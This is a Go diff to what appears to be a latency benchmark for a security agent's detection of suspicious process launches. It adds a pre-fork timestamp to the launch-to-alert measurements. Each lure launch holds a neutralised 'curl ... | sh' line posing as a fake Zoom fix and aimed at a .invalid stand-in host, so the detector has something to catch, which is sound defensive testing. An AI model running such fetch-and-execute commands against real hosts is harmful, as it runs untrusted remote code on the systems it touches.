@@ -14,7 +14,6 @@ import (
 	"os/signal"
 	"path/filepath"
 	"slices"
-	"strconv"
 	"strings"
 	"syscall"
 	"time"
@@ -215,7 +214,7 @@ func (e *env) shortLived(n int) ([]result, error) {
 // an agent that has run for a few seconds, and of the first in several that have
 // just said that they watch.
 func (e *env) launchToAlert(n int) ([]result, error) {
-	warm, missing, err := e.lureLaunches("warm", 5*time.Second, n)
+	warm, forked, missing, err := e.lureLaunches("warm", 5*time.Second, n)
 	if err != nil {
 		return nil, err
 	}
@@ -224,7 +223,7 @@ func (e *env) launchToAlert(n int) ([]result, error) {
 	}
 	var cold series
 	for i := range e.rounds {
-		first, gone, err := e.lureLaunches(fmt.Sprint("cold", i), 0, 1)
+		first, _, gone, err := e.lureLaunches(fmt.Sprint("cold", i), 0, 1)
 		if err != nil {
 			return nil, err
 		}
@@ -234,6 +233,7 @@ func (e *env) launchToAlert(n int) ([]result, error) {
 		{name: fmt.Sprintf("lure launches of %d that made no alert", n+e.rounds), figure: fmt.Sprint(missing), bar: "0", passed: missing == 0},
 		loaded(atMost("launch to alert on the disk, warm, p50", series{warm.median()}, 2, " ms"), warm),
 		loaded(atMost("launch to alert on the disk, warm, p99", series{warm.quantile(0.99)}, 20, " ms"), warm),
+		loaded(told("the same from before its fork, p50", forked, " ms"), forked),
 		loaded(told("launch to alert on the disk, the first of a new agent", cold, " ms"), cold),
 	}, nil
 }
@@ -241,36 +241,38 @@ func (e *env) launchToAlert(n int) ([]result, error) {
 // lureLaunches starts an agent, waits, and launches n lures. They come from a
 // program with the name of cron: what it starts belongs together no more than
 // its jobs do, while one terminal's launches would be one chain and one alert.
-func (e *env) lureLaunches(tag string, age time.Duration, n int) (took series, missing int, err error) {
+// The times are from when whoever launched it knew that it ran, which a busy
+// machine makes late, and from before the fork, which is always too early.
+func (e *env) lureLaunches(tag string, age time.Duration, n int) (took, forked series, missing int, err error) {
 	launcher, err := e.newLauncher() // first: its own launch is not measured
 	if err != nil {
-		return nil, 0, err
+		return nil, nil, 0, err
 	}
 	defer launcher.stop()
 	agent, err := e.watchAgent("launches", "")
 	if err != nil {
-		return nil, 0, err
+		return nil, nil, 0, err
 	}
 	defer agent.stop()
 	time.Sleep(age)
 	for i := range n {
 		host := fmt.Sprintf("zoom-fix-%s-%d.invalid", tag, i)
-		launched, err := launcher.launch(fmt.Sprintf("true || curl -fsSLk https://%s/a | sh", host))
+		before, launched, err := launcher.launch(fmt.Sprintf("true || curl -fsSLk https://%s/a | sh", host))
 		if err != nil {
-			return nil, 0, err
+			return nil, nil, 0, err
 		}
 		told, err := agent.log.wait(host, 2*time.Second)
 		if err != nil {
-			return nil, 0, err
+			return nil, nil, 0, err
 		}
 		if told.IsZero() {
 			missing++
 		} else {
-			took = append(took, 1e3*told.Sub(launched).Seconds())
+			took, forked = append(took, 1e3*told.Sub(launched).Seconds()), append(forked, 1e3*told.Sub(before).Seconds())
 		}
 		time.Sleep(30 * time.Millisecond)
 	}
-	return took, missing, nil
+	return took, forked, missing, nil
 }
 
 // launcher is a program of another name that launches what it is told to.
@@ -307,16 +309,17 @@ func (e *env) newLauncher() (*launcher, error) {
 	return l, l.cmd.Start()
 }
 
-// launch gives the moment when the program ran.
-func (l *launcher) launch(line string) (time.Time, error) {
+// launch gives the moment before the fork, and that when the program ran.
+func (l *launcher) launch(line string) (before, ran time.Time, err error) {
 	if _, err := fmt.Fprintln(l.lines, line); err != nil {
-		return time.Time{}, err
+		return before, ran, err
 	}
 	if !l.answers.Scan() {
-		return time.Time{}, errors.New("the launcher has ended")
+		return before, ran, errors.New("the launcher has ended")
 	}
-	nano, err := strconv.ParseInt(l.answers.Text(), 10, 64)
-	return time.Unix(0, nano), err
+	var from, to int64
+	_, err = fmt.Sscan(l.answers.Text(), &from, &to)
+	return time.Unix(0, from), time.Unix(0, to), err
 }
 
 func (l *launcher) stop() {
@@ -325,15 +328,16 @@ func (l *launcher) stop() {
 }
 
 // launchLines is the launcher's side: it has a shell run each line, and answers
-// with the time at which the shell began.
+// with the times before its fork and when it ran.
 func launchLines() error {
 	lines := bufio.NewScanner(os.Stdin)
 	for lines.Scan() {
 		cmd := exec.Command("sh", "-c", lines.Text())
+		before := time.Now()
 		if err := cmd.Start(); err != nil {
 			return err
 		}
-		fmt.Println(time.Now().UnixNano())
+		fmt.Println(before.UnixNano(), time.Now().UnixNano())
 		_ = cmd.Wait() // only its launch matters
 	}
 	return lines.Err()
